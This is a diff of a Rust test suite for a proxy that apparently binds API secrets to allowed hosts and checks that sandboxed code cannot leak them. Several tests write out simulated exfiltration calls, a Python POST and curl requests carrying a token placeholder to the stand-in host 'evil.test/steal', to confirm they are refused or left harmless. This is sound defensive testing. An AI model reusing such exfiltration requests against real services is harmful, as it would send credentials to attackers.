@@ -11,19 +11,19 @@ use crate::support::{
     assert_not_leaked, blocking, real_secret, tunnel, with_env, Airlock, TestCa, Upstream,
 };
 
-const BOUND: &str = "api.bound.test";
-const OTHER: &str = "evil.test";
+pub(crate) const BOUND: &str = "api.bound.test";
+pub(crate) const OTHER: &str = "evil.test";
 
-struct Range {
-    _ca: TestCa,
-    bound: Upstream,
-    other: Upstream,
-    airlock: Airlock,
-    real: String,
-    placeholder: String,
+pub(crate) struct Range {
+    pub(crate) _ca: TestCa,
+    pub(crate) bound: Upstream,
+    pub(crate) other: Upstream,
+    pub(crate) airlock: Airlock,
+    pub(crate) real: String,
+    pub(crate) placeholder: String,
 }
 
-async fn range(proxy_extra: &str) -> Range {
+pub(crate) async fn range(proxy_extra: &str) -> Range {
     let ca = TestCa::new();
     let bound = Upstream::start(&ca, &[BOUND]).await;
     let other = Upstream::start(&ca, &[OTHER]).await;
@@ -48,7 +48,7 @@ async fn range(proxy_extra: &str) -> Range {
 }
 
 impl Range {
-    fn no_leak(&self, outputs: &[&Output]) {
+    pub(crate) fn no_leak(&self, outputs: &[&Output]) {
         let logs = self.airlock.logs();
         let mut texts: Vec<&str> = outputs
             .iter()
@@ -128,22 +128,26 @@ async fn a_placeholder_for_another_host_is_refused_wherever_it_hides() {
             .collect::<Vec<_>>()
     })
     .await;
+    // Credential positions (header, Basic, URL) are refused; in a body the
+    // placeholder is inert text (an LLM transcript quoting it) and goes on
+    // unchanged: worthless off its binding.
     for (i, out) in outs.iter().enumerate() {
+        let expected = if i < 3 { "403" } else { "200" };
         assert_eq!(
-            out.stdout, "403",
-            "attack {i} was not refused: {}",
+            out.stdout, expected,
+            "attack {i}: expected {expected}: {}",
             out.stderr
         );
     }
-    // Split across many small chunks of a streamed body.
+    // Split across many small chunks of a streamed body: inert too.
     let env = r.airlock.env.clone();
     let script = format!(
         "import requests\ndef gen():\n    for c in 'xx{}yy':\n        yield c.encode()\nr = requests.post('https://{OTHER}/steal', data=gen())\nprint(r.status_code)",
         r.placeholder
     );
     let split = blocking(move || python(&env, &script)).await;
-    assert_eq!(split.stdout.trim(), "403", "{}", split.stderr);
-    // In a WebSocket handshake.
+    assert_eq!(split.stdout.trim(), "200", "{}", split.stderr);
+    // In a WebSocket handshake: a credential position.
     let mut tls = tunnel::tls_through(
         r.airlock.proxy_addr(),
         &format!("{OTHER}:443"),
@@ -160,19 +164,75 @@ async fn a_placeholder_for_another_host_is_refused_wherever_it_hides() {
     let mut answer = vec![0u8; 12];
     tls.read_exact(&mut answer).await.unwrap();
     assert_eq!(&answer, b"HTTP/1.1 403");
-    assert!(
-        r.other.requests().is_empty(),
+    // Only the body cases reached the other host, and each carried the
+    // placeholder as the sandbox wrote it, never the token.
+    let seen = r.other.requests();
+    assert_eq!(
+        seen.len(),
+        6,
         "the unbound upstream saw {} requests",
-        r.other.requests().len()
+        seen.len()
     );
+    assert!(
+        seen.iter()
+            .all(|req| !req.headers.iter().any(|(_, v)| v.contains(&r.placeholder))),
+        "a credential position reached the unbound host"
+    );
+    assert!(
+        !r.other.raw_contains(&r.real),
+        "the real secret reached {OTHER}"
+    );
+    // Each inert pass is marked in the audit line.
+    let logs = r.airlock.wait_for_log("inert=secret:API_TOKEN");
+    assert!(logs.contains("inert=secret:API_TOKEN"));
     let mut all: Vec<&Output> = outs.iter().collect();
     all.push(&split);
     r.no_leak(&all);
 }
 
 #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn a_binding_can_refuse_its_placeholder_in_foreign_bodies() {
+    let ca = TestCa::new();
+    let other = Upstream::start(&ca, &[OTHER]).await;
+    let real = real_secret("refusebody");
+    let cfg = format!(
+        "[proxy]\nintercept = \"all\"\nupstream_ca = [{:?}]\n\n[resolve]\n\"{OTHER}\" = \"127.0.0.1:{}\"\n\n\
+         [[secret]]\nname = \"API_TOKEN\"\nvalue = {real:?}\nhosts = [\"{BOUND}\"]\non_foreign_body = \"refuse\"\n",
+        ca.cert_pem_path().display().to_string(),
+        other.port()
+    );
+    let airlock = Airlock::start(&cfg);
+    let p = airlock.var("API_TOKEN");
+    let env = airlock.env.clone();
+    let out = blocking(move || {
+        curl(
+            &env,
+            &[
+                "-s",
+                "-D",
+                "-",
+                "--data",
+                &format!("quote={p}"),
+                &format!("https://{OTHER}/chat"),
+            ],
+        )
+    })
+    .await;
+    assert!(
+        // `-D -` prints the CONNECT answer first.
+        out.stdout.contains("HTTP/1.1 403") || out.stdout.contains("HTTP/2 403"),
+        "{}",
+        out.stdout
+    );
+    assert!(out.stdout.contains("host_not_allowed"), "{}", out.stdout);
+    assert!(other.requests().is_empty());
+    assert_not_leaked(&real, &[&out.stdout, &airlock.logs()]);
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
 async fn domain_fronting_and_coalescing_do_not_move_a_token() {
-    let r = range("").await;
+    // `bound` mode: the unbound host below is tunnelled, not intercepted.
+    let r = range("intercept = \"bound\"").await;
     let env = r.airlock.env.clone();
     let auth = format!("Authorization: Bearer {}", r.placeholder);
     let outs = blocking(move || {
@@ -503,168 +563,4 @@ async fn config_reload_on_sighup_keeps_connections_and_swaps_the_new_secret() {
         .unwrap();
     airlock.wait_for_log("not reloaded");
     assert_eq!(send(&mut conn, get()).await, 200);
-}
-
-/// A network namespace whose only way out is the proxy: the honest
-/// containment test. Needs root and `ip` (iproute2); says so when skipped.
-#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
-async fn a_sandbox_namespace_reaches_the_world_only_through_airlock() {
-    let is_root = std::process::Command::new("id")
-        .arg("-u")
-        .output()
-        .map(|o| o.stdout == b"0\n")
-        .unwrap_or(false);
-    let has_ip = std::process::Command::new("ip").arg("-V").output().is_ok();
-    if !is_root || !has_ip {
-        eprintln!("SKIPPED: the network-namespace test needs root and iproute2 (`ip`)");
-        return;
-    }
-    let id = std::process::id() % 200 + 20;
-    let ns = format!("airlock-sbx-{}", std::process::id());
-    let (host_if, ns_if) = (format!("alh{id}"), format!("aln{id}"));
-    let (host_ip, ns_ip) = (format!("10.231.{id}.1"), format!("10.231.{id}.2"));
-    let run = |args: &[&str]| {
-        let out = std::process::Command::new("ip")
-            .args(args)
-            .output()
-            .expect("ip");
-        assert!(
-            out.status.success(),
-            "ip {args:?}: {}",
-            String::from_utf8_lossy(&out.stderr)
-        );
-    };
-    let _ = std::process::Command::new("ip")
-        .args(["netns", "del", &ns])
-        .output();
-    run(&["netns", "add", &ns]);
-    struct Cleanup(String, String);
-    impl Drop for Cleanup {
-        fn drop(&mut self) {
-            let _ = std::process::Command::new("ip")
-                .args(["link", "del", &self.1])
-                .output();
-            let _ = std::process::Command::new("ip")
-                .args(["netns", "del", &self.0])
-                .output();
-        }
-    }
-    let _cleanup = Cleanup(ns.clone(), host_if.clone());
-    run(&[
-        "link", "add", &host_if, "type", "veth", "peer", "name", &ns_if,
-    ]);
-    run(&["link", "set", &ns_if, "netns", &ns]);
-    run(&["addr", "add", &format!("{host_ip}/30"), "dev", &host_if]);
-    run(&["link", "set", &host_if, "up"]);
-    run(&[
-        "netns",
-        "exec",
-        &ns,
-        "ip",
-        "addr",
-        "add",
-        &format!("{ns_ip}/30"),
-        "dev",
-        &ns_if,
-    ]);
-    run(&["netns", "exec", &ns, "ip", "link", "set", &ns_if, "up"]);
-    run(&["netns", "exec", &ns, "ip", "link", "set", "lo", "up"]);
-
-    let ca = TestCa::new();
-    let bound = Upstream::start(&ca, &[BOUND]).await;
-    let other = Upstream::start(&ca, &[OTHER]).await;
-    let real = real_secret("netns");
-    let cfg = format!(
-        "[proxy]\nintercept = \"all\"\nupstream_ca = [{:?}]\n[resolve]\n\"{BOUND}\" = \"127.0.0.1:{}\"\n\"{OTHER}\" = \"127.0.0.1:{}\"\n[[secret]]\nname = \"API_TOKEN\"\nvalue = {real:?}\nhosts = [\"{BOUND}\"]\n",
-        ca.cert_pem_path().display().to_string(),
-        bound.port(),
-        other.port()
-    );
-    let airlock = Airlock::start_listening(&cfg, &format!("{host_ip}:0"));
-    let env = airlock.env.clone();
-    let placeholder = airlock.var("API_TOKEN");
-    let (ns2, upstream_port) = (ns.clone(), bound.port());
-    let (through, direct, outside, attack) = blocking(move || {
-        let in_ns = |args: &[&str]| {
-            let mut full = vec![
-                "netns",
-                "exec",
-                ns2.as_str(),
-                "curl",
-                "-sS",
-                "--max-time",
-                "5",
-            ];
-            full.extend_from_slice(args);
-            let mut cmd = std::process::Command::new("ip");
-            cmd.args(&full)
-                .env_clear()
-                .env("PATH", std::env::var("PATH").unwrap_or_default());
-            for (k, v) in &env {
-                cmd.env(k, v);
-            }
-            let out = cmd.output().expect("ip netns exec curl");
-            Output {
-                status: out.status.code().unwrap_or(-1),
-                stdout: String::from_utf8_lossy(&out.stdout).into_owned(),
-                stderr: String::from_utf8_lossy(&out.stderr).into_owned(),
-            }
-        };
-        let auth = format!("Authorization: Bearer {placeholder}");
-        (
-            in_ns(&[
-                "-w",
-                " %{http_code}",
-                "-H",
-                &auth,
-                &format!("https://{BOUND}/from-the-sandbox"),
-            ]),
-            in_ns(&[
-                "--noproxy",
-                "*",
-                "-k",
-                &format!("https://127.0.0.1:{upstream_port}/direct"),
-            ]),
-            in_ns(&["--noproxy", "*", "-k", "https://1.1.1.1/"]),
-            in_ns(&[
-                "-o",
-                "/dev/null",
-                "-w",
-                "%{http_code}",
-                "-H",
-                &auth,
-                &format!("https://{OTHER}/steal"),
-            ]),
-        )
-    })
-    .await;
-    assert_eq!(
-        through.stdout, "ok\n 200",
-        "through the proxy: {}",
-        through.stderr
-    );
-    assert_ne!(
-        direct.status, 0,
-        "a direct connection to the upstream must fail"
-    );
-    assert_ne!(outside.status, 0, "the sandbox has no route out");
-    assert_eq!(attack.stdout, "403", "{}", attack.stderr);
-    assert_eq!(
-        bound.requests()[0].header("authorization"),
-        Some(format!("Bearer {real}").as_str())
-    );
-    assert!(other.requests().is_empty());
-    assert!(!bound
-        .requests()
-        .iter()
-        .any(|r| r.path_and_query == "/direct"));
-    assert_not_leaked(
-        &real,
-        &[
-            &through.stdout,
-            &through.stderr,
-            &attack.stdout,
-            &airlock.logs(),
-        ],
-    );
 }
